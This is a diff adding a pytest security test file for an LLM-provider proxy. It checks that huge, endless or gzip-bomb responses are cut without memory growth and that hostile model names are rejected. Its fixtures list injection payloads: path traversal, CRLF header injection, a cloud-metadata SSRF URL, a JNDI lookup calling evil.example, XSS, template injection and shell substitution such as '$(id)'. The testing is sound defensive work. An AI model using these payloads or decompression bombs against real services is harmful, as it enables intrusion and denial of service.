@@ -1,0 +1,218 @@
+"""Answers that never end or are far too large: they are cut, and memory stays where it was."""
+
+from __future__ import annotations
+
+import gzip
+import itertools
+import json
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Self
+
+import pytest
+
+from tests.fakes.server import Answer, Fault
+from tests.security.kit import (
+    SOAK,
+    Fakes,
+    Process,
+    Reply,
+    Wait,
+    ask,
+    body_of,
+    post,
+    process,
+    request,
+)
+
+MIB = 2**20
+SSE = ("content-type", "text/event-stream")
+NDJSON = ("content-type", "application/x-ndjson")
+JSON = ("content-type", "application/json")
+PIECE = b"x" * MIB
+ALONE = {"x-pointsman-fallback": "off"}
+NAMES = {"groq": "groq", "gemini": "gemini", "ollama": "ollama/llama3.2"}
+
+
+class Repeated(tuple[bytes, ...]):
+    """`times` pieces without the memory for them."""
+
+    times: int
+
+    def __new__(cls, piece: bytes, times: int) -> Self:
+        made = super().__new__(cls, (piece,))
+        made.times = times
+        return made
+
+    def __iter__(self) -> Iterator[bytes]:
+        return itertools.repeat(self[0], self.times)
+
+
+def large(content_type: tuple[str, str], piece: bytes, times: int, start: bytes = b"") -> Answer:
+    return Answer(200, (content_type,), Repeated(piece, times), chunked=True)
+
+
+def gzip_bomb(content_type: tuple[str, str]) -> Answer:
+    packed = gzip.compress(b" " * (200 * MIB), 9)
+    return Answer(200, (content_type, ("content-encoding", "gzip")), (packed,))
+
+
+def groq_words() -> bytes:
+    delta = {"choices": [{"index": 0, "delta": {"content": "word " * 3000}}]}
+    return b"data: " + json.dumps({"id": "x", **delta}).encode() + b"\n\n"
+
+
+def gemini_words() -> bytes:
+    part = {"candidates": [{"index": 0, "content": {"parts": [{"text": "word " * 3000}]}}]}
+    return b"data: " + json.dumps(part).encode() + b"\r\n\r\n"
+
+
+def ollama_words() -> bytes:
+    message = {"role": "assistant", "content": "word " * 3000}
+    return json.dumps({"model": "llama3.2", "message": message, "done": False}).encode() + b"\n"
+
+
+BOMBS = {
+    "300 MB whole": (large(JSON, PIECE, 300), large(JSON, PIECE, 300), large(JSON, PIECE, 300)),
+    "a line of 100 MB": (
+        large(SSE, PIECE, 100),
+        large(SSE, PIECE, 100),
+        large(NDJSON, PIECE, 100),
+    ),
+    "a gzip bomb": (gzip_bomb(JSON), gzip_bomb(SSE), gzip_bomb(NDJSON)),
+    "an endless stream": (
+        large(SSE, groq_words(), 20_000),
+        large(SSE, gemini_words(), 20_000),
+        large(NDJSON, ollama_words(), 20_000),
+    ),
+    "300 MB of a refusal": (
+        Answer(500, (JSON,), Repeated(PIECE, 300), chunked=True),
+        Answer(400, (JSON,), Repeated(PIECE, 300), chunked=True),
+        Answer(503, (JSON,), Repeated(PIECE, 300), chunked=True),
+    ),
+}
+
+if SOAK:
+    BOMBS["empty lines without end"] = (
+        large(SSE, b"\n" * MIB, 300),
+        large(SSE, b": hello\n\n" * 100_000, 300),
+        large(NDJSON, b"\n" * MIB, 300),
+    )
+
+
+@pytest.fixture
+def one(fakes: Fakes, tmp_path: Path) -> Iterator[Process]:
+    with process(fakes, tmp_path) as running:
+        for name in NAMES.values():  # what comes in with the first call is no growth
+            assert ask(running.port, post(body_of(name))).status == 200
+        fakes.forget()
+        yield running
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
+@pytest.mark.parametrize("bomb", BOMBS)
+def test_an_answer_that_is_too_large_ends_in_an_error_and_costs_no_memory(
+    one: Process, fakes: Fakes, wait: Wait, bomb: str, stream: bool
+) -> None:
+    before = one.rss_bytes()
+    peak = before
+    for (_, fake), model, answer in zip(
+        fakes.by_name.items(), NAMES.values(), BOMBS[bomb], strict=True
+    ):
+        calls = fakes.chats
+        fake.script.clear()
+        fake.then(*[Fault(answer)] * 4)
+        reply, most = watched(
+            one, post(body_of(model, stream=stream), **{"x-pointsman-fallback": "off"})
+        )
+        peak = max(peak, most)
+        assert reply.status in (200, 400, 502, 503), reply.status
+        assert fakes.chats > calls
+        if reply.status == 200:
+            last = reply.body.split(b"\n\n")[-2]
+            assert json.loads(last.removeprefix(b"data: "))["error"]["code"], last[:300]
+        else:
+            assert reply.json["error"]["message"]
+        fake.script.clear()
+        wait(lambda fake=fake: fake.counts.open <= 1)  # type: ignore[misc] # bound to this one
+    assert peak - before < 100 * MIB
+
+
+def watched(one: Process, data: bytes) -> tuple[Reply, int]:
+    """The answer, and the most memory that was held until it had come."""
+    replies: list[Reply] = []
+    asking = threading.Thread(target=lambda: replies.append(ask(one.port, data)))
+    asking.start()
+    most = one.rss_bytes()
+    while asking.is_alive():
+        asking.join(0.01)
+        most = max(most, one.rss_bytes())
+    return replies[0], most
+
+
+HOSTILE_NAMES = (
+    "",
+    " ",
+    "..",
+    "../x",
+    "a/../b",
+    "groq/../../admin",
+    "x#frag",
+    "gemini/x#frag",
+    "x?key=1",
+    "gemini/x?alt=sse",
+    "x&y",
+    "x%2e%2e",
+    "gemini/%2e%2e%2ftunedModels",
+    "a//b",
+    "//evil.example/x",
+    "http://evil.example/x",
+    "groq/http://169.254.169.254/",
+    "a\r\nX-Evil: 1",
+    "a\nb",
+    "a\x00b",
+    "a\tb",
+    "a b",
+    "é",
+    "\u202egnp",
+    "\ufeffx",
+    "a\u2028b",
+    "x" * 129,
+    "x" * 100_000,
+    "-x",
+    ".x",
+    "/x",
+    "@x",
+    "x;y",
+    "x'y",
+    'x"y',
+    "x\\y",
+    "<img src=x onerror=alert(1)>",
+    "${jndi:ldap://evil.example/x}",
+    "{{7*7}}",
+    "x|y",
+    "x`id`",
+    "$(id)",
+    "gemini/models/../../x",
+    "tunedModels/../z",
+)
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
+def test_no_hostile_name_of_a_model_reaches_a_provider(
+    one: Process, fakes: Fakes, stream: bool
+) -> None:
+    assert len(set(HOSTILE_NAMES)) >= 40
+    for name in HOSTILE_NAMES:
+        reply = ask(one.port, post(body_of(name, stream=stream)))
+        assert reply.status in (400, 404), (name, reply)
+        assert "x-evil" not in reply.headers
+        assert reply.json["error"]["param"] == "model"
+    for value in (None, 1, [], {}, True):
+        assert ask(one.port, post(body_of() | {"model": value})).status == 400
+    for name in HOSTILE_NAMES:
+        if name.isascii() and name.isprintable() and not set(name) & set(" #?"):
+            path = f"/v1/models/{name}"
+            assert ask(one.port, request("GET", path)).status in (400, 404, 431), name
+    assert fakes.chats == 0
